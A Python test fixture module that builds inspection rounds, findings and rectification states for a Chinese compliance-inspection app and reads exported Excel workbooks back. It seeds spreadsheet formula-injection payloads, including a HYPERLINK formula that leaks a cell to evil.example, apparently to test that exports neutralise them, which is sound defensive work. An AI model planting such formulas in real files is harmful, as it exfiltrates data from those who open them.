"""A round of two units with answers, findings in every rectification state (responses,
extensions, an on-site re-check, a return), a repeat, an empty round, and awkward text:
formula payloads, emoji, rare CJK, control characters and a 40,000-character note."""

from __future__ import annotations

import re
import zipfile
from datetime import timedelta
from pathlib import Path

import pytest
from openpyxl import load_workbook
from python_calamine import CalamineWorkbook

from inspect_app.clock import local_today
from inspect_app.extensions import db
from inspect_app.models import Answer
from inspect_app.rectification import services as rect

YEAR = 2026
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]
LONG_NOTE = "长" * 40_000
EMOJI = "已加固🔒"
RARE = "𠀀𠀁"
CONTROL = "控制\x01字符\x1f"


@pytest.fixture
def data(ctx, make):
    return build_data(make)


@pytest.fixture
def web_data(app, make):
    """The same data for tests that use the test client (no app context held meanwhile)."""
    with app.app_context():
        return build_data(make)


def build_data(make) -> dict:
    today = local_today()
    cac, psb = make.department(code="CAC", name="网信"), make.department(code="PSB", name="公安")
    template = make.template(
        key="EX",
        items=[
            {
                "code": "EX-01",
                "text": "是否明确责任人？",
                "lead_department": "CAC",
                "legal_basis": [
                    {"law": "网络安全法", "article": "第23条", "article_pre2026": "第21条"}
                ],
            },
            {"code": "EX-02", "text": "日志是否留存？", "lead_department": "PSB"},
            {"code": "EX-03", "text": PAYLOADS[0]},
            {"code": "EX-04", "text": "网站数量", "kind": "number"},
        ],
    )
    r3 = make.round(year=YEAR, seq=3, title="2026年第3轮检查")
    r1 = make.round(year=YEAR, seq=1, title="2026年第1轮检查")
    empty = make.round(year=YEAR, seq=5, title="2026年第5轮检查")
    u1 = make.unit(code="EXU1", name=f"甲单位{EMOJI}", kind="party_gov")
    u2 = make.unit(code="EXU2", name=f"乙单位{RARE}", kind="soe")
    system = make.system(unit=u1, code="EXS1", name="门户网站", mlps_level=3, filing_number="备-01")
    team = [
        make.user(role="inspector", department=cac),
        make.user(role="inspector", department=psb),
    ]
    served = today - timedelta(days=40)

    def inspection(unit, rnd, status, **kw):
        return make.inspection(
            template=template,
            unit=unit,
            round=rnd,
            members=team,
            status=status,
            scheduled_on=served - timedelta(days=3),
            **kw,
        )

    i1 = inspection(
        u1,
        r3,
        "submitted",
        system=system,
        notice_number="整改〔2026〕第1号",
        notice_served_on=served,
    )
    i2 = inspection(u2, r3, "closed", notice_number="整改〔2026〕第2号", notice_served_on=served)
    i0 = inspection(u2, r1, "submitted", notice_number="整改〔2026〕第0号", notice_served_on=served)
    inspection(u1, r3, "planned")
    items = template.items
    notes = [PAYLOADS[1], LONG_NOTE, CONTROL, PAYLOADS[5]]
    for n, insp in enumerate((i1, i2, i0)):
        for k, item in enumerate(items):
            result = ("compliant", "noncompliant", "not_applicable")[(n + k) % 3]
            value = 3 if item.kind == "number" else None
            db.session.add(
                Answer(
                    inspection_id=insp.id,
                    item_id=item.id,
                    version=1,
                    result=None if value else result,
                    value=value,
                    note=notes[k] if n == 0 else f"{EMOJI}{RARE}",
                    finding_description=PAYLOADS[2] if k == 0 else "",
                )
            )
    db.session.commit()

    def finding(insp, item, description, due_days, severity="medium", **kw):
        return make.finding(
            insp,
            item_id=item.id,
            description=description,
            severity=severity,
            due_date=today + timedelta(days=due_days),
            **kw,
        )

    earlier = finding(i0, items[1], "上一轮：日志未留存", -5)
    f_overdue = finding(
        i1,
        items[0],
        PAYLOADS[0],
        -17,
        "high",
        major_hazard=True,
        required_action=PAYLOADS[3],
        legal_basis=items[0].legal_basis,
    )
    f_closed = finding(i1, items[1], f"表情{EMOJI}与生僻字{RARE}", 10)
    f_extended = finding(i2, items[0], CONTROL, 5, required_action=LONG_NOTE)
    f_returned = finding(i2, items[1], PAYLOADS[4], 12, repeat_of_id=earlier.id, repeat_count=1)
    liaison1 = make.user(role="unit", unit=u1)
    liaison2 = make.user(role="unit", unit=u2)
    office = make.user(role="coordinator", display_name="王协调")

    def respond(finding_row, liaison, measures):
        rect.respond(
            finding_row.rectification.id,
            actor=liaison,
            cause="原因",
            measures=measures,
            completed_on=today - timedelta(days=1),
            responsible_person="赵六",
            responsible_phone="+86 138",
            today=today,
        )

    respond(f_closed, liaison1, PAYLOADS[1] + "已整改")
    rect.verify(
        f_closed.rectification.id,
        actor=office,
        note="同意",
        recheck=rect.Recheck(checked_on=today, checked_by="李复查"),
        today=today,
    )
    rect.request_extension(
        f_extended.rectification.id,
        actor=liaison2,
        reason="采购",
        proposed_date=today + timedelta(days=30),
        interim_measures="临时措施",
        today=today,
    )
    rect.decide_extension(f_extended.rectification.id, actor=office, grant=True, today=today)
    respond(f_extended, liaison2, "分期整改")
    respond(f_returned, liaison2, "已整改")
    rect.return_item(
        f_returned.rectification.id,
        actor=office,
        reason="不足",
        due_date=today + timedelta(days=20),
        today=today,
    )
    return {
        "today": today,
        "rounds": {"r3": r3.id, "r1": r1.id, "empty": empty.id},
        "units": {"u1": u1.id, "u2": u2.id},
        "unit_codes": {"u1": u1.code, "u2": u2.code},
        "inspections": {"i1": i1.id, "i2": i2.id, "i0": i0.id},
        "findings": {
            "overdue": f_overdue.code,
            "closed": f_closed.code,
            "extended": f_extended.code,
            "returned": f_returned.code,
            "earlier": earlier.code,
        },
        "users": {
            "office": office.id,
            "liaison1": liaison1.id,
            "liaison2": liaison2.id,
            "inspector": team[0].id,
        },
    }


# --- reading workbooks back ------------------------------------------------------------------


def read_openpyxl(path) -> dict[str, list[tuple]]:
    wb = load_workbook(path)
    return {ws.title: [tuple(r) for r in ws.iter_rows(values_only=True)] for ws in wb}


def read_calamine(path) -> dict[str, list[list]]:
    wb = CalamineWorkbook.from_path(str(path))
    return {
        name: wb.get_sheet_by_name(name).to_python(skip_empty_area=False) for name in wb.sheet_names
    }


def formula_cells(path) -> list[str]:
    with zipfile.ZipFile(Path(path)) as archive:
        return [
            m
            for name in archive.namelist()
            if name.startswith("xl/worksheets/")
            for m in re.findall(r"<f[ >].*?</f>", archive.read(name).decode())
        ]


def table(rows: list, header_row: int = 1) -> tuple[tuple, list]:
    """(header, data rows) of a table sheet, blank trailing rows dropped."""
    header = tuple(rows[header_row - 1])
    body = [r for r in rows[header_row:] if any(v not in (None, "") for v in r)]
    return header, body


def reads_full_only_at_the_end(calls, where):
    """A workbook's progress reports: never full before the end, and the big sheets' rows
    counted from the first report on."""
    from inspect_app.exports.sheets import count_answers, count_findings

    assert len(calls) >= 3 and calls[-1][0] == calls[-1][1]
    assert all(done < total or (done, total) == calls[-1] for done, total in calls), calls
    # the first report already counts the findings (问题清单 and 整改台账) and the answers
    big = 2 * count_findings(where) + count_answers(where)
    assert big > 0 and calls[0][1] >= calls[0][0] + big, calls
